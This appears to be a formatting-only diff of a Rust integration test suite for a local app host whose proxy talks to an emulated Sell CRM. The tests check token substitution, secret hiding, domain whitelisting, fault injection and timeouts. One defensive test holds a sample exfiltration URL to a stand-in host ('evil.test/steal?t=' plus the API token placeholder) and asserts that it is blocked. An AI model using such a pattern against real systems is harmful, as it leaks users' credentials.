@@ -6,7 +6,12 @@ use std::path::PathBuf;
 use devhost::host::{serve, HostOptions, RunningHost};
 use serde_json::{json, Value};
 
-const AGENT_EMAILS: [&str; 4] = ["ada@acme.test", "nora@acme.test", "ivan@acme.test", "zed@acme.test"];
+const AGENT_EMAILS: [&str; 4] = [
+    "ada@acme.test",
+    "nora@acme.test",
+    "ivan@acme.test",
+    "zed@acme.test",
+];
 const ADA_SELL_ID: u64 = 1;
 const NORA_SELL_ID: u64 = 3;
 
@@ -17,9 +22,18 @@ struct Host {
 
 /// A host on a free port, serving the app from `app_dir` (a folder that need not exist).
 async fn start_with_app_dir(app_dir: PathBuf) -> Host {
-    let options = HostOptions { port: 0, app_dir, ..HostOptions::default() };
-    let running = serve(options).await.expect("the host starts on a free port");
-    Host { running, http: reqwest::Client::new() }
+    let options = HostOptions {
+        port: 0,
+        app_dir,
+        ..HostOptions::default()
+    };
+    let running = serve(options)
+        .await
+        .expect("the host starts on a free port");
+    Host {
+        running,
+        http: reqwest::Client::new(),
+    }
 }
 
 async fn start() -> Host {
@@ -36,7 +50,12 @@ impl Host {
     }
 
     async fn get_text(&self, path: &str) -> (u16, String) {
-        let response = self.http.get(self.url(path)).send().await.expect("GET reaches the host");
+        let response = self
+            .http
+            .get(self.url(path))
+            .send()
+            .await
+            .expect("GET reaches the host");
         let status = response.status().as_u16();
         (status, response.text().await.expect("a text body"))
     }
@@ -48,27 +67,49 @@ impl Host {
     }
 
     async fn post_json(&self, path: &str, body: Value) -> (u16, Value) {
-        let response = self.http.post(self.url(path)).json(&body).send().await.expect("POST reaches the host");
+        let response = self
+            .http
+            .post(self.url(path))
+            .json(&body)
+            .send()
+            .await
+            .expect("POST reaches the host");
         let status = response.status().as_u16();
         let text = response.text().await.expect("a body");
-        (status, serde_json::from_str(&text).unwrap_or(Value::String(text)))
+        (
+            status,
+            serde_json::from_str(&text).unwrap_or(Value::String(text)),
+        )
     }
 
     /// What the page does for the app's `request:<n>`: the reply `{outcome, responseArgs, log}`.
     async fn proxy(&self, options: Value, agent: Option<&str>) -> Value {
-        let (status, reply) = self.post_json("/_host/proxy", json!({"options": options, "agent": agent, "ticket": 102})).await;
-        assert_eq!(status, 200, "the proxy endpoint itself answers 200: {reply}");
+        let (status, reply) = self
+            .post_json(
+                "/_host/proxy",
+                json!({"options": options, "agent": agent, "ticket": 102}),
+            )
+            .await;
+        assert_eq!(
+            status, 200,
+            "the proxy endpoint itself answers 200: {reply}"
+        );
         reply
     }
 
     async fn last_sell_log(&self) -> Value {
         let log = self.get_json("/_emu/log").await;
-        log.as_array().and_then(|entries| entries.last().cloned()).unwrap_or(Value::Null)
+        log.as_array()
+            .and_then(|entries| entries.last().cloned())
+            .unwrap_or(Value::Null)
     }
 
     fn every_secret(&self) -> Vec<String> {
         let emulator = &self.running.emulator;
-        let mut secrets: Vec<String> = AGENT_EMAILS.iter().filter_map(|email| emulator.token_for(email)).collect();
+        let mut secrets: Vec<String> = AGENT_EMAILS
+            .iter()
+            .filter_map(|email| emulator.token_for(email))
+            .collect();
         secrets.push(emulator.admin_token());
         secrets
     }
@@ -119,23 +160,49 @@ async fn a_page_opened_on_localhost_frames_the_app_from_127_0_0_1() {
 #[tokio::test]
 async fn each_page_load_gets_a_new_app_guid() {
     let host = start().await;
-    let guid = |html: String| html.split("data-app-guid=\"").nth(1).and_then(|rest| rest.split('"').next()).map(str::to_owned);
+    let guid = |html: String| {
+        html.split("data-app-guid=\"")
+            .nth(1)
+            .and_then(|rest| rest.split('"').next())
+            .map(str::to_owned)
+    };
     let first = guid(host.get_text("/").await.1).expect("a guid");
     let second = guid(host.get_text("/").await.1).expect("a guid");
     assert_ne!(first, second);
 }
 
 #[tokio::test]
-async fn the_page_script_and_style_are_served_and_the_page_allows_only_its_own_origin_and_the_app() {
+async fn the_page_script_and_style_are_served_and_the_page_allows_only_its_own_origin_and_the_app()
+{
     let host = start().await;
     let response = host.http.get(host.url("/")).send().await.expect("GET /");
-    let csp = response.headers().get("content-security-policy").and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
+    let csp = response
+        .headers()
+        .get("content-security-policy")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or("")
+        .to_owned();
     assert!(csp.contains("default-src 'self'"), "{csp}");
-    assert!(csp.contains(&format!("frame-src http://localhost:{}", host.port())), "{csp}");
+    assert!(
+        csp.contains(&format!("frame-src http://localhost:{}", host.port())),
+        "{csp}"
+    );
 
-    let js = host.http.get(host.url("/_host/page/host.js")).send().await.expect("GET host.js");
-    assert!(js.headers()["content-type"].to_str().unwrap_or("").starts_with("text/javascript"));
-    assert!(js.text().await.unwrap_or_default().contains("window.__devhost"));
+    let js = host
+        .http
+        .get(host.url("/_host/page/host.js"))
+        .send()
+        .await
+        .expect("GET host.js");
+    assert!(js.headers()["content-type"]
+        .to_str()
+        .unwrap_or("")
+        .starts_with("text/javascript"));
+    assert!(js
+        .text()
+        .await
+        .unwrap_or_default()
+        .contains("window.__devhost"));
     let (status, css) = host.get_text("/_host/page/host.css").await;
     assert_eq!(status, 200);
     assert!(css.contains(".apps-tray"));
@@ -150,7 +217,11 @@ async fn the_app_is_served_from_the_app_dir_and_a_missing_build_says_how_to_make
 
     let dir = std::env::temp_dir().join(format!("devhost-app-{}", std::process::id()));
     std::fs::create_dir_all(&dir).expect("temp dir");
-    std::fs::write(dir.join("index.html"), "<!doctype html><title>the app</title>").expect("write index.html");
+    std::fs::write(
+        dir.join("index.html"),
+        "<!doctype html><title>the app</title>",
+    )
+    .expect("write index.html");
     let built = start_with_app_dir(dir.clone()).await;
     let (status, text) = built.get_text("/app/index.html?origin=x&app_guid=y").await;
     assert_eq!(status, 200);
@@ -200,28 +271,60 @@ async fn config_round_trips_and_drives_what_the_app_is_told() {
     assert_eq!(status, 200, "{posted}");
     let config = host.get_json("/_host/config").await;
     assert_eq!(config, posted);
-    assert_eq!(config["settings"]["lead_status"], json!("New"), "settings not named keep their value");
+    assert_eq!(
+        config["settings"]["lead_status"],
+        json!("New"),
+        "settings not named keep their value"
+    );
 
     let zaf = host.get_json("/_host/zaf").await;
     assert_eq!(zaf["data"]["currentUser"]["email"], json!("nora@acme.test"));
     assert_eq!(zaf["data"]["currentUser"]["locale"], json!("en-US"));
     assert_eq!(zaf["data"]["ticket.id"], json!(104));
-    assert_eq!(zaf["data"]["ticket.requester.email"], json!("dana.new@dupe.test"));
+    assert_eq!(
+        zaf["data"]["ticket.requester.email"],
+        json!("dana.new@dupe.test")
+    );
     assert_eq!(zaf["context"]["ticketId"], json!(104));
-    assert_eq!(zaf["metadata"]["settings"]["all_agents_access"], json!(true));
-    assert_eq!(zaf["metadata"]["settings"]["lead_owners"], json!("Inbound pool"));
+    assert_eq!(
+        zaf["metadata"]["settings"]["all_agents_access"],
+        json!(true)
+    );
+    assert_eq!(
+        zaf["metadata"]["settings"]["lead_owners"],
+        json!("Inbound pool")
+    );
 }
 
 #[tokio::test]
 async fn a_bad_config_is_refused_with_a_message_and_changes_nothing() {
     let host = start().await;
-    let (status, body) = host.post_json("/_host/config", json!({"agent": "max@acme.test", "ticket": 101})).await;
+    let (status, body) = host
+        .post_json(
+            "/_host/config",
+            json!({"agent": "max@acme.test", "ticket": 101}),
+        )
+        .await;
     assert_eq!(status, 400);
-    assert!(body["error"].as_str().unwrap_or("").contains("max@acme.test"), "{body}");
+    assert!(
+        body["error"]
+            .as_str()
+            .unwrap_or("")
+            .contains("max@acme.test"),
+        "{body}"
+    );
     let config = host.get_json("/_host/config").await;
-    assert_eq!((config["agent"].clone(), config["ticket"].clone()), (json!("ada@acme.test"), json!(102)));
+    assert_eq!(
+        (config["agent"].clone(), config["ticket"].clone()),
+        (json!("ada@acme.test"), json!(102))
+    );
 
-    let (status, body) = host.post_json("/_host/config", json!({"settings": {"sell_api_token": "x"}})).await;
+    let (status, body) = host
+        .post_json(
+            "/_host/config",
+            json!({"settings": {"sell_api_token": "x"}}),
+        )
+        .await;
     assert_eq!(status, 400, "{body}");
 }
 
@@ -229,7 +332,10 @@ async fn a_bad_config_is_refused_with_a_message_and_changes_nothing() {
 async fn the_catalog_lists_the_four_agents_and_eight_tickets() {
     let host = start().await;
     let catalog = host.get_json("/_host/catalog").await;
-    let emails: Vec<&str> = catalog["agents"].as_array().map(|a| a.iter().filter_map(|x| x["email"].as_str()).collect()).unwrap_or_default();
+    let emails: Vec<&str> = catalog["agents"]
+        .as_array()
+        .map(|a| a.iter().filter_map(|x| x["email"].as_str()).collect())
+        .unwrap_or_default();
     assert_eq!(emails, AGENT_EMAILS);
     assert_eq!(catalog["tickets"].as_array().map(Vec::len), Some(8));
 }
@@ -239,20 +345,43 @@ async fn secure_settings_never_appear_in_any_page_or_get_response() {
     let host = start().await;
     // Make the request log non-empty, with a secure request of each credential.
     for token in ["sell_api_token", "sell_user_token"] {
-        let options = sell_get("/v2/users/self", &format!("Bearer {{{{setting.{token}}}}}"), true);
+        let options = sell_get(
+            "/v2/users/self",
+            &format!("Bearer {{{{setting.{token}}}}}"),
+            true,
+        );
         host.proxy(options, Some("nora@acme.test")).await;
     }
-    let (status, answer) = host.post_json("/_host/secure", json!({"sell_api_token": "custom-secret-token"})).await;
+    let (status, answer) = host
+        .post_json(
+            "/_host/secure",
+            json!({"sell_api_token": "custom-secret-token"}),
+        )
+        .await;
     assert_eq!(status, 200);
     let mut secrets = host.every_secret();
     secrets.push("custom-secret-token".into());
-    assert!(!answer.to_string().contains("custom-secret-token"), "POST /_host/secure echoes no value");
+    assert!(
+        !answer.to_string().contains("custom-secret-token"),
+        "POST /_host/secure echoes no value"
+    );
 
-    for path in ["/", "/_host/config", "/_host/zaf", "/_host/catalog", "/_host/requests", "/_host/page/host.js", "/_host/page/host.css"] {
+    for path in [
+        "/",
+        "/_host/config",
+        "/_host/zaf",
+        "/_host/catalog",
+        "/_host/requests",
+        "/_host/page/host.js",
+        "/_host/page/host.css",
+    ] {
         let (status, text) = host.get_text(path).await;
         assert_eq!(status, 200, "GET {path}");
         for secret in &secrets {
-            assert!(!text.contains(secret.as_str()), "GET {path} shows a secure value");
+            assert!(
+                !text.contains(secret.as_str()),
+                "GET {path} shows a secure value"
+            );
         }
         assert!(!text.contains("sellemu-"), "GET {path} shows a Sell token");
     }
@@ -263,7 +392,12 @@ async fn secure_settings_never_appear_in_any_page_or_get_response() {
 #[tokio::test]
 async fn a_secure_request_gets_the_installation_token_filled_in_on_the_server() {
     let host = start().await;
-    let reply = host.proxy(sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true), Some("nora@acme.test")).await;
+    let reply = host
+        .proxy(
+            sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true),
+            Some("nora@acme.test"),
+        )
+        .await;
     assert_eq!(reply["outcome"], json!("done"), "{reply}");
     assert_eq!(reply["responseArgs"][0]["data"]["id"], json!(ADA_SELL_ID));
     assert_eq!(host.last_sell_log().await["user_id"], json!(ADA_SELL_ID));
@@ -274,12 +408,21 @@ async fn a_secure_request_gets_the_installation_token_filled_in_on_the_server() 
 #[tokio::test]
 async fn a_non_secure_request_is_sent_with_its_placeholder_as_written() {
     let host = start().await;
-    let reply = host.proxy(sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", false), None).await;
+    let reply = host
+        .proxy(
+            sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", false),
+            None,
+        )
+        .await;
     assert_eq!(reply["outcome"], json!("fail"), "{reply}");
     assert_eq!(reply["responseArgs"][0]["status"], json!(401));
     let logged = host.last_sell_log().await;
     assert_eq!(logged["status"], json!(401));
-    assert_eq!(logged["user_id"], Value::Null, "the literal placeholder is no one's token");
+    assert_eq!(
+        logged["user_id"],
+        Value::Null,
+        "the literal placeholder is no one's token"
+    );
     assert_eq!(reply["log"]["credential"], json!("none"));
 }
 
@@ -289,31 +432,49 @@ async fn the_oauth_placeholder_is_the_current_agents_own_sell_token() {
     let options = sell_get("/v2/users/self", "Bearer {{setting.sell_user_token}}", true);
 
     let nora = host.proxy(options.clone(), Some("nora@acme.test")).await;
-    assert_eq!(nora["responseArgs"][0]["data"]["id"], json!(NORA_SELL_ID), "{nora}");
+    assert_eq!(
+        nora["responseArgs"][0]["data"]["id"],
+        json!(NORA_SELL_ID),
+        "{nora}"
+    );
     assert_eq!(host.last_sell_log().await["user_id"], json!(NORA_SELL_ID));
     assert_eq!(nora["log"]["credential"], json!("agent"));
 
     // Without an agent in the call, the configured agent's token is used.
-    host.post_json("/_host/config", json!({"agent": "nora@acme.test"})).await;
+    host.post_json("/_host/config", json!({"agent": "nora@acme.test"}))
+        .await;
     let configured = host.proxy(options.clone(), None).await;
-    assert_eq!(configured["responseArgs"][0]["data"]["id"], json!(NORA_SELL_ID));
+    assert_eq!(
+        configured["responseArgs"][0]["data"]["id"],
+        json!(NORA_SELL_ID)
+    );
 
     let zed = host.proxy(options.clone(), Some("zed@acme.test")).await;
     assert_eq!(zed["outcome"], json!("fail"));
-    assert_eq!(zed["responseArgs"][0]["status"], json!(401), "an agent without a Sell user has no token");
+    assert_eq!(
+        zed["responseArgs"][0]["status"],
+        json!(401),
+        "an agent without a Sell user has no token"
+    );
 
     let ivan = host.proxy(options, Some("ivan@acme.test")).await;
-    assert_eq!(ivan["responseArgs"][0]["status"], json!(401), "an inactive Sell user is refused");
+    assert_eq!(
+        ivan["responseArgs"][0]["status"],
+        json!(401),
+        "an inactive Sell user is refused"
+    );
 }
 
 #[tokio::test]
 async fn a_secure_setting_set_on_the_host_replaces_the_installation_token() {
     let host = start().await;
-    host.post_json("/_host/secure", json!({"sell_api_token": "revoked-token"})).await;
+    host.post_json("/_host/secure", json!({"sell_api_token": "revoked-token"}))
+        .await;
     let options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
     let refused = host.proxy(options.clone(), None).await;
     assert_eq!(refused["responseArgs"][0]["status"], json!(401));
-    host.post_json("/_host/secure", json!({"sell_api_token": null})).await;
+    host.post_json("/_host/secure", json!({"sell_api_token": null}))
+        .await;
     let back = host.proxy(options, None).await;
     assert_eq!(back["responseArgs"][0]["data"]["id"], json!(ADA_SELL_ID));
 }
@@ -321,56 +482,124 @@ async fn a_secure_setting_set_on_the_host_replaces_the_installation_token() {
 #[tokio::test]
 async fn a_domain_outside_the_whitelist_fails_with_403_and_is_not_sent() {
     let host = start().await;
-    host.http.delete(host.url("/_emu/log")).send().await.expect("clear the emulator log");
-    let options = json!({"url": "https://evil.test/steal?t={{setting.sell_api_token}}", "secure": true});
+    host.http
+        .delete(host.url("/_emu/log"))
+        .send()
+        .await
+        .expect("clear the emulator log");
+    let options =
+        json!({"url": "https://evil.test/steal?t={{setting.sell_api_token}}", "secure": true});
     let reply = host.proxy(options, None).await;
     assert_eq!(reply["outcome"], json!("fail"));
-    let args = reply["responseArgs"].as_array().cloned().unwrap_or_default();
+    let args = reply["responseArgs"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
     assert_eq!(args.len(), 3);
     assert_eq!(args[0]["status"], json!(403));
     assert_eq!(args[0]["statusText"], json!("Forbidden"));
-    assert!(args[0]["responseText"].as_str().unwrap_or("").starts_with("Domain not allowed"), "{reply}");
-    assert_eq!((args[1].clone(), args[2].clone()), (json!("error"), json!("Forbidden")));
-    assert_eq!(host.get_json("/_emu/log").await, json!([]), "nothing reached Sell");
-    assert!(!reply.to_string().contains(&host.running.emulator.admin_token()), "the refused URL is not filled back to the app");
+    assert!(
+        args[0]["responseText"]
+            .as_str()
+            .unwrap_or("")
+            .starts_with("Domain not allowed"),
+        "{reply}"
+    );
+    assert_eq!(
+        (args[1].clone(), args[2].clone()),
+        (json!("error"), json!("Forbidden"))
+    );
+    assert_eq!(
+        host.get_json("/_emu/log").await,
+        json!([]),
+        "nothing reached Sell"
+    );
+    assert!(
+        !reply
+            .to_string()
+            .contains(&host.running.emulator.admin_token()),
+        "the refused URL is not filled back to the app"
+    );
 }
 
 #[tokio::test]
-async fn done_replies_have_jquery_shape_without_and_one_full_response_with_http_complete_response() {
+async fn done_replies_have_jquery_shape_without_and_one_full_response_with_http_complete_response()
+{
     let host = start().await;
-    let plain = host.proxy(sell_get("/v2/lead_statuses?per_page=100", "Bearer {{setting.sell_api_token}}", true), None).await;
+    let plain = host
+        .proxy(
+            sell_get(
+                "/v2/lead_statuses?per_page=100",
+                "Bearer {{setting.sell_api_token}}",
+                true,
+            ),
+            None,
+        )
+        .await;
     assert_eq!(plain["outcome"], json!("done"));
-    let args = plain["responseArgs"].as_array().cloned().unwrap_or_default();
+    let args = plain["responseArgs"]
+        .as_array()
+        .cloned()
+        .unwrap_or_default();
     assert_eq!(args.len(), 3);
-    assert!(args[0]["items"].is_array(), "the parsed body comes first: {plain}");
+    assert!(
+        args[0]["items"].is_array(),
+        "the parsed body comes first: {plain}"
+    );
     assert_eq!(args[1], json!("success"));
     assert_eq!(args[2]["status"], json!(200));
 
-    let mut options = sell_get("/v2/lead_statuses?per_page=100", "Bearer {{setting.sell_api_token}}", true);
+    let mut options = sell_get(
+        "/v2/lead_statuses?per_page=100",
+        "Bearer {{setting.sell_api_token}}",
+        true,
+    );
     options["httpCompleteResponse"] = json!(true);
     let full = host.proxy(options, None).await;
     let args = full["responseArgs"].as_array().cloned().unwrap_or_default();
     assert_eq!(args.len(), 1);
     assert_eq!(args[0]["status"], json!(200));
     assert!(args[0]["responseJSON"]["items"].is_array());
-    assert!(args[0]["responseText"].as_str().unwrap_or("").starts_with('{'));
-    assert!(args[0]["headers"]["content-type"].as_str().unwrap_or("").contains("json"), "{full}");
+    assert!(args[0]["responseText"]
+        .as_str()
+        .unwrap_or("")
+        .starts_with('{'));
+    assert!(
+        args[0]["headers"]["content-type"]
+            .as_str()
+            .unwrap_or("")
+            .contains("json"),
+        "{full}"
+    );
 }
 
 #[tokio::test]
 async fn non_2xx_answers_fail_with_the_xhr_the_word_error_and_the_status_text_whatever_the_flag() {
     let host = start().await;
     for complete in [false, true] {
-        let mut options = sell_get("/v2/leads/987654", "Bearer {{setting.sell_api_token}}", true);
+        let mut options = sell_get(
+            "/v2/leads/987654",
+            "Bearer {{setting.sell_api_token}}",
+            true,
+        );
         options["httpCompleteResponse"] = json!(complete);
         let reply = host.proxy(options, None).await;
         assert_eq!(reply["outcome"], json!("fail"), "{reply}");
-        let args = reply["responseArgs"].as_array().cloned().unwrap_or_default();
+        let args = reply["responseArgs"]
+            .as_array()
+            .cloned()
+            .unwrap_or_default();
         assert_eq!(args[0]["status"], json!(404));
         assert_eq!(args[0]["statusText"], json!("Not Found"));
-        assert!(args[0]["responseJSON"]["errors"].is_array(), "a Sell error body: {reply}");
+        assert!(
+            args[0]["responseJSON"]["errors"].is_array(),
+            "a Sell error body: {reply}"
+        );
         assert!(args[0]["headers"].is_object());
-        assert_eq!((args[1].clone(), args[2].clone()), (json!("error"), json!("Not Found")));
+        assert_eq!(
+            (args[1].clone(), args[2].clone()),
+            (json!("error"), json!("Not Found"))
+        );
     }
 }
 
@@ -380,22 +609,47 @@ async fn an_injected_429_reaches_the_app_with_its_retry_after_header() {
     let faults = json!({"latency_ms": 0, "rules": [{"path_contains": "/v2/leads", "times": 1, "kind": "status", "status": 429, "retry_after": 5}]});
     let (status, _) = host.post_json("/_emu/faults", faults).await;
     assert!((200..300).contains(&status));
-    let reply = host.proxy(sell_get("/v2/leads?email=lea%40lead-only.test", "Bearer {{setting.sell_api_token}}", true), None).await;
+    let reply = host
+        .proxy(
+            sell_get(
+                "/v2/leads?email=lea%40lead-only.test",
+                "Bearer {{setting.sell_api_token}}",
+                true,
+            ),
+            None,
+        )
+        .await;
     assert_eq!(reply["responseArgs"][0]["status"], json!(429), "{reply}");
-    assert_eq!(reply["responseArgs"][0]["headers"]["retry-after"], json!("5"));
-    let again = host.proxy(sell_get("/v2/leads?email=lea%40lead-only.test", "Bearer {{setting.sell_api_token}}", true), None).await;
+    assert_eq!(
+        reply["responseArgs"][0]["headers"]["retry-after"],
+        json!("5")
+    );
+    let again = host
+        .proxy(
+            sell_get(
+                "/v2/leads?email=lea%40lead-only.test",
+                "Bearer {{setting.sell_api_token}}",
+                true,
+            ),
+            None,
+        )
+        .await;
     assert_eq!(again["outcome"], json!("done"), "the fault fired once");
 }
 
 #[tokio::test]
 async fn a_request_slower_than_its_timeout_fails_with_status_0_timeout() {
     let host = start().await;
-    host.post_json("/_emu/faults", json!({"latency_ms": 3000, "rules": []})).await;
+    host.post_json("/_emu/faults", json!({"latency_ms": 3000, "rules": []}))
+        .await;
     let mut options = sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true);
     options["timeout"] = json!(200);
     let started = std::time::Instant::now();
     let reply = host.proxy(options, None).await;
-    assert!(started.elapsed() < std::time::Duration::from_millis(2500), "the proxy gave up at the timeout");
+    assert!(
+        started.elapsed() < std::time::Duration::from_millis(2500),
+        "the proxy gave up at the timeout"
+    );
     assert_eq!(reply["outcome"], json!("fail"));
     assert_eq!(reply["responseArgs"][0]["status"], json!(0));
     assert_eq!(reply["responseArgs"][0]["statusText"], json!("timeout"));
@@ -416,10 +670,19 @@ async fn a_post_with_a_json_body_creates_a_lead_and_carries_the_proxy_user_agent
     });
     let reply = host.proxy(options, Some("nora@acme.test")).await;
     assert_eq!(reply["outcome"], json!("done"), "{reply}");
-    assert_eq!(reply["responseArgs"][0]["responseJSON"]["data"]["last_name"], json!("Proxied"));
-    assert_eq!(reply["responseArgs"][0]["responseJSON"]["data"]["creator_id"], json!(NORA_SELL_ID));
+    assert_eq!(
+        reply["responseArgs"][0]["responseJSON"]["data"]["last_name"],
+        json!("Proxied")
+    );
+    assert_eq!(
+        reply["responseArgs"][0]["responseJSON"]["data"]["creator_id"],
+        json!(NORA_SELL_ID)
+    );
     let logged = host.last_sell_log().await;
-    assert_eq!((logged["method"].clone(), logged["user_id"].clone()), (json!("POST"), json!(NORA_SELL_ID)));
+    assert_eq!(
+        (logged["method"].clone(), logged["user_id"].clone()),
+        (json!("POST"), json!(NORA_SELL_ID))
+    );
 }
 
 #[tokio::test]
@@ -435,8 +698,17 @@ async fn get_data_becomes_the_query_string() {
     assert_eq!(reply["outcome"], json!("done"), "{reply}");
     assert_eq!(reply["log"]["path"], json!("/v2/leads"));
     let logged = host.last_sell_log().await;
-    assert!(logged["query"].as_str().unwrap_or("").contains("email=lea%40lead-only.test"), "{logged}");
-    assert_eq!(reply["responseArgs"][0]["items"].as_array().map(Vec::len), Some(1));
+    assert!(
+        logged["query"]
+            .as_str()
+            .unwrap_or("")
+            .contains("email=lea%40lead-only.test"),
+        "{logged}"
+    );
+    assert_eq!(
+        reply["responseArgs"][0]["items"].as_array().map(Vec::len),
+        Some(1)
+    );
 }
 
 #[tokio::test]
@@ -446,20 +718,40 @@ async fn bad_options_fail_like_a_refused_request() {
     assert_eq!(no_url["outcome"], json!("fail"));
     assert_eq!(no_url["responseArgs"][0]["status"], json!(400));
     let underscore = host
-        .proxy(json!({"url": "https://api.getbase.com/v2/users/self", "headers": {"X_Token": "a"}}), None)
+        .proxy(
+            json!({"url": "https://api.getbase.com/v2/users/self", "headers": {"X_Token": "a"}}),
+            None,
+        )
         .await;
-    assert!(underscore["responseArgs"][0]["responseText"].as_str().unwrap_or("").contains("underscore"));
+    assert!(underscore["responseArgs"][0]["responseText"]
+        .as_str()
+        .unwrap_or("")
+        .contains("underscore"));
 }
 
 #[tokio::test]
 async fn the_request_log_lists_each_proxied_call_and_can_be_cleared() {
     let host = start().await;
-    host.proxy(sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true), None).await;
+    host.proxy(
+        sell_get("/v2/users/self", "Bearer {{setting.sell_api_token}}", true),
+        None,
+    )
+    .await;
     host.proxy(json!({"url": "https://evil.test/"}), None).await;
     let log = host.get_json("/_host/requests").await;
     let rows: Vec<(Value, Value, Value)> = log
         .as_array()
-        .map(|rows| rows.iter().map(|r| (r["path"].clone(), r["credential"].clone(), r["status"].clone())).collect())
+        .map(|rows| {
+            rows.iter()
+                .map(|r| {
+                    (
+                        r["path"].clone(),
+                        r["credential"].clone(),
+                        r["status"].clone(),
+                    )
+                })
+                .collect()
+        })
         .unwrap_or_default();
     assert_eq!(
         rows,
@@ -468,6 +760,10 @@ async fn the_request_log_lists_each_proxied_call_and_can_be_cleared() {
             (json!("https://evil.test/"), json!("none"), json!(403)),
         ]
     );
-    host.http.delete(host.url("/_host/requests")).send().await.expect("DELETE");
+    host.http
+        .delete(host.url("/_host/requests"))
+        .send()
+        .await
+        .expect("DELETE");
     assert_eq!(host.get_json("/_host/requests").await, json!([]));
 }
